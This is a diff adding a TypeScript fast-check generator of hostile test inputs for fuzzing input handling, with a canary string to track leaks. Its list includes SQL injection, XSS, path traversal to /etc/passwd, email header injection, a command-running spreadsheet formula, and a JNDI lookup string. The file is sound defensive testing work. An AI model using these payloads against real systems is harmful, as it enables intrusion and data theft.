@@ -1,0 +1,70 @@
+import fc from "fast-check";
+
+/** Stands in what is sent, so that it is recognised wherever it must not turn up. */
+export const canary = "Canary7f3aQx";
+
+const tricks = [
+  "",
+  " ",
+  "\0",
+  "before\0after",
+  "%00",
+  "\ud800",
+  "tail\udfff",
+  "\u202eevil\u202c",
+  "\u200b\u200d\ufeff",
+  "Z\u0351\u036b\u0343".repeat(2_000),
+  "\u0130I\u0131i\u00df\ufb00",
+  "e\u0301 \u00e9",
+  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
+  "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",
+  "x\r\nBcc: everybody@example.test\r\n\r\nHello",
+  "x\nSet-Cookie: a=b",
+  "a\0@example.test",
+  "a@example.test\r\nBcc: b@example.test",
+  "a@example.test,b@example.test",
+  '"a b"@example.test',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "\t=1+1",
+  "../../../../etc/passwd",
+  "..\\..\\windows",
+  "..%2f..%2f",
+  "/dev/null",
+  "' or 1=1 --",
+  "%' and _like_",
+  "\\",
+  "<script>alert(1)</script>",
+  "%{jndi:ldap://example.test/a}",
+  "{{constructor.constructor('return 1')()}}",
+  "javascript:alert(1)",
+  "//example.test",
+  "__proto__",
+  "constructor",
+  "toString",
+  "null",
+  "NaN",
+  "1e999",
+  "-1",
+  "9".repeat(400),
+  "00000000-0000-0000-0000-000000000000",
+  "2026-02-30",
+  "-271821-04-20T00:00:00.000Z",
+  "a".repeat(70_000),
+  `${"a".repeat(64)}@${"b".repeat(190)}.test`,
+  "+447700900123",
+  "+0000000000000000000000000",
+] as const;
+
+/** Text that somebody may send to break what reads it: NUL, half characters, line ends, paths, formulas, sizes. */
+export const hostileText: fc.Arbitrary<string> = fc.oneof(
+  // No column can hold it, so whatever lets it through to one fails.
+  { weight: 2, arbitrary: fc.constantFrom("\0", `${canary}\0tail`) },
+  { weight: 4, arbitrary: fc.constantFrom(...tricks) },
+  { weight: 2, arbitrary: fc.constantFrom(...tricks).map((trick) => `${canary}${trick}`) },
+  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
+  {
+    weight: 1,
+    arbitrary: fc.string({ unit: "grapheme", maxLength: 60 }).map((one) => `${canary}${one}`),
+  },
+);
